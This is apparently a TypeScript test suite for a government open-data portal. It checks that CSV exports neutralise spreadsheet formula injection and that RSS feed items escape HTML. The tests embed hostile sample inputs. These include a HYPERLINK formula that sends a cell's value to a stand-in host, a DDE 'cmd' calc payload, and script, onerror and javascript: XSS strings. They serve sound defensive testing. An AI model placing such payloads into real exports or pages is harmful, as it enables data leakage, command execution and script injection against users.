import { describe, expect, it } from 'vitest';
import { getRssString } from '@astrojs/rss';
import { EXPORT_FIELDS, neutralizeFormula, policyExportRows, toCsv, toJson, type ExportRow } from '../../src/lib/exports.ts';
import { feedItems, htmlText, xmlText } from '../../src/lib/feed.ts';
import { collectSite } from '../../src/content/load.ts';
import { ROOT } from '../helpers/build-site.ts';

const data = (await collectSite({ root: ROOT, source: 'test/fixtures/content/ok', today: '2025-01-01' })).data!;
const rows = policyExportRows(data, 'https://gov.example/zwgk/');

describe('open data exports', () => {
  it('has one row per policy with absolute URLs under the base', () => {
    expect(rows).toHaveLength(data.policies.length);
    expect(rows.map((r) => r.url)).toContain('https://gov.example/zwgk/policies/policy-a/');
  });

  it('gives relations both ways', () => {
    const a = rows.find((r) => r.id === 'policy-a')!;
    const b = rows.find((r) => r.id === 'policy-b')!;
    expect(b.repeals).toEqual(['policy-a']);
    expect(a.repealedBy).toEqual(['policy-b']);
    expect(a.status).toBe('已废止');
  });

  it('writes CSV with a BOM, the documented header and quoted cells', () => {
    const csv = toCsv([{ ...rows[0]!, title: '关于"标题",含逗号', keywords: ['甲', '乙'] }]);
    expect(csv.startsWith('\uFEFF' + EXPORT_FIELDS.join(','))).toBe(true);
    expect(csv).toContain('"关于""标题"",含逗号"');
    expect(csv).toContain('甲;乙');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('writes JSON with the schema name, field list and count', () => {
    const json = JSON.parse(toJson(rows, { siteName: '示例', generated: '2025-01-01' }));
    expect(json).toMatchObject({ schema: 'gov-open-portal/policies@1', count: rows.length, fields: [...EXPORT_FIELDS] });
  });
});

/** Minimal RFC 4180 reader (quoted cells, doubled quotes) to look at cells as a spreadsheet does. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

/**
 * A spreadsheet whose list separator is ';' (German, French Excel): every line is split on ';',
 * a quote is honoured only as the first character of a field (then up to the closing quote,
 * doubled quotes kept as one; what follows it up to the next ';' is appended as it is); elsewhere
 * quotes are ordinary characters. Lines end at CRLF, LF or CR outside such a quoted field.
 */
function parseSemicolonCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') (cell += '"'), i++;
        else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i];
      }
    }
    while (i < text.length && text[i] !== ';' && text[i] !== '\r' && text[i] !== '\n') cell += text[i++];
    row.push(cell);
    if (text[i] === ';') i++;
    else {
      rows.push(row), (row = []);
      i += text.startsWith('\r\n', i) ? 2 : 1;
    }
  }
  if (row.length) rows.push(row);
  return rows;
}

/** What a spreadsheet runs as a formula: after spaces and quotes, = + - @ (also fullwidth), tab or CR. A leading ' makes it text. */
const FORMULA = /^[\s\u3000"]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A field and everything that can start a new field or list item in it: after ; , tab CR LF. */
const starts = (field: string): string[] => [field, ...field.split(/[;,\t\r\n]/).slice(1)];

/** The documented way back (docs/open-data.md): drop each ' inserted at a start position. */
const SPACE_OR_QUOTE = String.raw`[\v\f \u00A0\u1680\u2000-\u200A\u2028\u2029\u202F\u205F\u3000\uFEFF'"]*`;
const FORMULA_CHAR = String.raw`[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]`;
function restore(cell: string): string {
  const unstarted = new RegExp(`^'(?=${SPACE_OR_QUOTE}${FORMULA_CHAR})`).test(cell) ? cell.slice(1) : cell;
  return unstarted.replace(new RegExp(`([;,\\t\\r\\n])'(?=${SPACE_OR_QUOTE}(?:${FORMULA_CHAR}|$))`, 'g'), '$1');
}

const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://evil","x")', `'=HYPERLINK("http://evil","x")`],
  ['+cmd', "'+cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['   =1+1', "'   =1+1"],
  ['\u3000=1+1', "'\u3000=1+1"],
  ['＝1+1', "'＝1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
];

/** Formulas hidden behind every separator a reader may split on, and behind quotes a field-start quote would drop. */
const HIDDEN = [
  '正常;=HYPERLINK("https://evil.example/?"&A2,"点击")',
  '测试 CSV;=1+2;x',
  "摘要;@SUM(1+1)*cmd|' /C calc'!A0",
  '甲,=1+2',
  '甲;"=1+2"',
  '甲;""=1+2',
  "甲;'=1+2",
  '甲; \u3000＝1+2',
  '甲;\t=1',
  '甲\t-1',
  '甲\n=1+2',
  '甲\r\n+1',
  '甲\r@SUM(1)',
  '甲;',
  '甲,',
  '甲;"',
  ';;=1',
  '=1;=2,=3',
];

describe('CSV formula neutralisation (OWASP CSV injection)', () => {
  const hostileRow = (title: string): ExportRow => ({ ...rows[0]!, title, summary: title, keywords: ['正常', title] });

  it.each(HOSTILE)('prefixes %j with a single quote in every cell and list item', (value, expected) => {
    const [, cells] = parseCsv(toCsv([hostileRow(value)]).slice(1));
    const at = (f: string) => cells![EXPORT_FIELDS.indexOf(f as never)]!;
    expect(at('title')).toBe(expected);
    expect(at('summary')).toBe(expected);
    expect(at('keywords')).toBe(`正常;${expected}`);
    expect(restore(at('title'))).toBe(value);
  });

  it('leaves ordinary text, inner signs and the header alone', () => {
    for (const v of ['关于印发《办法》的通知', 'a=b', '2025-01-01', '内政办发〔2016〕5号', '', "'已有引号", '甲;乙', '1,2', '2016-2020年', 'a; b', '甲\n乙', '（一）-（三）']) expect(neutralizeFormula(v)).toBe(v);
    expect(toCsv([]).startsWith(`\uFEFF${EXPORT_FIELDS.join(',')}\r\n`)).toBe(true);
  });

  it('quotes cells holding ; so a semicolon-separated locale cannot start a new cell', () => {
    const csv = toCsv([{ ...rows[0]!, keywords: ['甲', '=1+1'] }]);
    expect(csv).toContain(`"甲;'=1+1"`);
  });

  it("neutralises a ; inside a list item, so splitting the cell on ';' gives no formula item", () => {
    const keywords = ['正常;=HYPERLINK("https://evil.example/?"&A2,"点击")'];
    const [, cells] = parseCsv(toCsv([{ ...rows[0]!, keywords }]).slice(1));
    const items = cells![EXPORT_FIELDS.indexOf('keywords')]!.split(';');
    expect(items).toEqual(['正常', `'=HYPERLINK("https://evil.example/?"&A2,"点击")`]);
  });

  it('neutralises what a semicolon-separator spreadsheet (quotes honoured at field start only) sees as cells', () => {
    const csv = toCsv([{ ...rows[0]!, title: '测试 CSV;=1+2;x', summary: "摘要;@SUM(1+1)*cmd|' /C calc'!A0" }]).slice(1);
    const fields = parseSemicolonCsv(csv).flat();
    expect(fields).toContain("'=1+2");
    expect(fields.some((f) => f.startsWith("'@SUM(1+1)*cmd|"))).toBe(true);
    expect(fields.filter((f) => FORMULA.test(f))).toEqual([]);
  });

  it('no field under either separator, and no list item, starts a formula; the comma reading restores every value exactly', () => {
    const hostile = [...HOSTILE.map(([v]) => v), ...HIDDEN];
    const table: ExportRow[] = hostile.map((v, i) => {
      const row = { ...rows[i % rows.length]! };
      for (const f of EXPORT_FIELDS) row[f] = Array.isArray(row[f]) ? ['正常', v, `${v};${v}`] : v;
      return row;
    });
    const csv = toCsv(table).slice(1);
    const comma = parseCsv(csv);
    const semicolon = parseSemicolonCsv(csv);
    expect(comma).toHaveLength(hostile.length + 1);
    for (const field of [...comma.flat(), ...semicolon.flat()]) {
      for (const start of starts(field)) expect(start, JSON.stringify(field)).not.toMatch(FORMULA);
    }
    comma.slice(1).forEach((cells, r) => {
      cells.forEach((cell, c) => {
        const f = EXPORT_FIELDS[c]!;
        expect(restore(cell)).toBe(Array.isArray(table[r]![f]) ? (table[r]![f] as string[]).join(';') : table[r]![f]);
      });
    });
  });

  it('keeps JSON untouched', () => {
    const json = JSON.parse(toJson([hostileRow('=HYPERLINK("http://evil","x")')], { siteName: '示例', generated: '2025-01-01' }));
    expect(json.items[0].title).toBe('=HYPERLINK("http://evil","x")');
    const keywords = ['正常;=HYPERLINK("https://evil.example/?"&A2,"点击")'];
    expect(JSON.parse(toJson([{ ...rows[0]!, keywords }], { siteName: '示例', generated: '2025-01-01' })).items[0].keywords).toEqual(keywords);
  });
});

describe('feed items (plain text)', () => {
  const hostile = {
    policies: [{ ...data.policies[0]!, id: 'p1', title: '<img src=x onerror=alert(1)>通知\u0001', docNumber: { raw: '文号', key: '文号||1', agency: '文号', serial: '1' }, summary: '<script>alert(1)</script> & <b>粗</b>\u0008', published: '2025-01-02' }],
    interpretations: [{ ...data.interpretations[0]!, id: 'i1', title: '解读 </title><x>', summary: '<a href="javascript:alert(1)">点</a>', published: '2025-01-01' }],
  };
  const items = feedItems(hostile, 'https://gov.example/zwgk/');

  it('HTML-escapes descriptions and strips C0 controls', () => {
    expect(items.map((i) => i.description)).toEqual([
      '文号 &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;粗&lt;/b&gt;',
      '&lt;a href=&quot;javascript:alert(1)&quot;&gt;点&lt;/a&gt;',
    ]);
    expect(items[0]!.title).toBe('<img src=x onerror=alert(1)>通知');
    expect(items[0]!.link).toBe('https://gov.example/zwgk/policies/p1/');
  });

  it('produces well-formed XML whose description decodes to text, never to markup', async () => {
    const xml = await getRssString({ title: xmlText('站\u0002'), description: 'd', site: 'https://gov.example/zwgk/', items });
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    expect(xml).not.toContain('content:encoded');
    expect(xml).not.toMatch(/<(script|img|a|b|x)[\s>]/);
    // XML-decoding a description once gives HTML-escaped text: no tag survives into the reader's HTML
    const desc = [...xml.matchAll(/<description>([^<]*)<\/description>/g)].map((m) => m[1]!.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&'));
    expect(desc.slice(1).every((d) => !/<[a-z/]/i.test(d))).toBe(true);
    expect(desc[1]).toContain('&lt;script&gt;');
  });

  it('removes only what XML 1.0 cannot carry', () => {
    expect(xmlText('a\tb\nc\rd\u0000\u001F\uFFFE\uD800e😀')).toBe('a\tb\nc\rde😀');
    expect(htmlText(`'"&`)).toBe('&#39;&quot;&amp;');
  });
});
